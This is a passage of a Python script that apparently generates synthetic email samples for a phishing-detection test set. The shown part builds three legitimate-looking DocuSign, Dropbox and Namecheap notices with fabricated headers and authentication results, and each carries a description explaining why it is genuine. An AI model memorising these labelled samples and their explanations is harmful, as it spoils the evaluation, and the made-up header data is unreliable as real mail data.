    when = dt(2024, 2, 9, 14, 26, 40, -8)
    guid = lambda s: "-".join([hexs(s, 8), hexs(s + "1", 4), hexs(s + "2", 4), hexs(s + "3", 4), hexs(s + "4", 12)])  # noqa: E731
    link = f"https://na4.docusign.net/Signing/EmailStart.aspx?a={guid('b15a')}&etti=24&acct={guid('b15b')}&er={guid('b15c')}"
    html = notice("DocuSign", "#ffbe00", "Jan Whitlow sent you a document to review and sign.",
                  ['<table width="100%" bgcolor="#1e4ca1" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:26px;color:#fff">'
                   f'<a href="{link}" style="background:#ffc820;color:#333;padding:10px 24px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></td></tr></table>',
                   "<b>Jan Whitlow</b><br>jan@brackenfold.co.uk",
                   "Hi Dave, here's the independent examiner's report on the 2023 accounts for you and Alan to sign as trustees, as "
                   "we discussed at the AGM. Any questions just ring me. Jan",
                   "<b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.",
                   "<b>Alternate Signing Method</b><br>Visit DocuSign.com, click 'Access Documents', and enter the security code: "
                   + hexs("b15code", 32).upper()],
                  None, "This message was sent to you by Jan Whitlow who is using the DocuSign Electronic Signature Service.",
                  logo='<span style="font-size:22px;font-weight:bold;color:#000">Docu<span style="color:#ffbe00">Sign</span></span>')
    C("b6-docusign-examiner-report-known-sender",
      "genuine DocuSign envelope sent by the society's independent examiner (Reply-To her own address, context from the AGM): dse_NA4@docusign.net from DocuSign's servers with SPF/DKIM/DMARC pass, link to na4.docusign.net and an alternate access code",
      rcpt=DAVE, when=when, frm=addr("Jan Whitlow via DocuSign", "dse_NA4@docusign.net"),
      reply_to=addr("Jan Whitlow", JAN), to=addr("Dave Harker", DAVE),
      subject="Please DocuSign: OMARS Independent Examiner Report 2023.pdf", body=html_only(html),
      mailfrom="dse_NA4@docusign.net", client=("mailna4.docusign.net", "209.67.98.59", "mailna4.docusign.net"),
      dkim=[("pass", "docusign.net", "mail")], msgid=guid("b15mid") + "@docusign.net",
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_PASS,SPF_PASS"))

    # b16: Dropbox share from a known member ---------------------------------
    when = dt(2024, 6, 30, 17, 58, 2, 0)
    link = "https://www.dropbox.com/scl/fo/k3x9q2w7e1r5t8y4u6i0o/h?rlkey=a8s7d6f5g4h3j2k1l0zxcvbnm&dl=0"
    html = notice("Dropbox", "#0061fe", "Helen Marsh shared \"Field Day 2024\" with you",
                  ['Helen Marsh (helen.marsh@icloud.com) invited you to view the folder "Field Day 2024" on Dropbox.',
                   "<i>Raw photos and the two videos of the mast going up - too big for email!</i>"],
                  ("Go to folder", link),
                  "Enjoy!<br>The Dropbox team<br>&copy; 2024 Dropbox, Inc.")
    B("b6-dropbox-folder-share-known-member",
      "real Dropbox folder-share notice (no-reply@dropbox.com, Dropbox's servers, SPF/DKIM/DMARC pass) from a club member the recipient knows, with a personal note matching club events; link to www.dropbox.com/scl",
      rcpt=DAVE, when=when, frm=addr("Helen Marsh (via Dropbox)", "no-reply@dropbox.com"),
      reply_to=addr("Helen Marsh", "helen.marsh@icloud.com"),
      subject="Helen Marsh shared \"Field Day 2024\" with you", body=html_only(html),
      mailfrom="bounces+" + hexs("b16b", 12) + "@em-s.dropbox.com", client=("mail-sender-12.dropbox.com", "162.125.4.12", "mail-sender-12.dropbox.com"),
      dkim=[("pass", "dropbox.com", "scph0223")],
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_PASS,SPF_PASS"))

    # b17: registrar renewal reminder ----------------------------------------
    when = dt(2025, 8, 4, 6, 0, 17, 0)
    plain = ("Hi dharker,\n\nThis is a friendly reminder that the following domain is set to auto-renew in 30 days:\n\n"
             "  oldmillradio.org - expires Sep 3, 2025 - auto-renew ON - $15.18\n\n"
             "No action is needed. We'll charge your default payment method on file (Visa ending 0331) a few days before expiry. "
             "To change renewal settings, sign in to your Namecheap account and go to Domain List.\n\n"
             "Regards,\nTeam Namecheap\nhttps://www.namecheap.com\n")
    B("b6-namecheap-auto-renew-reminder",
      "registrar auto-renew reminder for the domain the webmaster really owns, from namecheap.com with SPF/DKIM/DMARC pass: states 'no action needed', account username and card's last digits, no login link",
      rcpt=WEBM, when=when, frm=addr("Namecheap", "support@namecheap.com"),
      subject="Auto-renewal reminder: oldmillradio.org", body=text(plain),
      mailfrom="bounce-" + hexs("b17b", 8) + "@mail.namecheap.com", client=("mta-out2.namecheap.com", "198.54.122.142", "mta-out2.namecheap.com"),
      dkim=[("pass", "namecheap.com", "s1")],
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,SPF_HELO_PASS,SPF_PASS"))


def main() -> None:
    phishing_webmail()
    phishing_shares()
    phishing_invoices()
    phishing_brands()
    phishing_banks()
    phishing_parcels_gov_tricks()
    legit_personal()
    legit_notifications()
    legit_services()
    manifest = []
    for folder, slug, desc, data in SAMPLES:
        assert b"\r" not in data, slug
        assert len(data) < 200_000, (slug, len(data))
        path = MAIL / folder / f"{slug}.eml"
        path.write_bytes(data)
        manifest.append(f"samples/mail/{folder}/{slug}.eml | {folder} | {desc}")
    MANIFEST.write_text("\n".join(manifest) + "\n")
    counts = {}
    for folder, *_ in SAMPLES:
        counts[folder] = counts.get(folder, 0) + 1
    print(counts)


if __name__ == "__main__":
    main()
